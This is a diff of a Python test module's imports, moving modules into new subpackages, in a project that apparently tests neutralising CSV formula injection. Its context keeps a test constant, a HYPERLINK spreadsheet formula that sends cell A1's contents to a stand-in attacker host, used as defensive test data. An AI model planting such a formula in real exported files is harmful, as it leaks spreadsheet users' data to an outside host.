@@ -10,15 +10,15 @@ import pandas as pd
 from hypothesis import given
 from hypothesis import strategies as st
 
-from sweep.csvcells import TRIGGERS, neutralise, neutralise_frame, restore
+from sweep.core.csvcells import TRIGGERS, neutralise, neutralise_frame, restore
 from sweep.judging.humancheck import export_sample, read_labels
 from sweep.judging.output import write_outputs
 from sweep.judging.records import AnswerTrace
 from sweep.judging.replies import Verdict
 from sweep.judging.summary import summarize_answers
-from sweep.results import write_results
-from sweep.scoring import ScoreTable
-from sweep.traces import Retrieved
+from sweep.reporting.frames import write_results
+from sweep.scoring.credit import ScoreTable
+from sweep.store.traces import Retrieved
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 # Text that starts like a formula or like one quoted already, numbers, plain text.
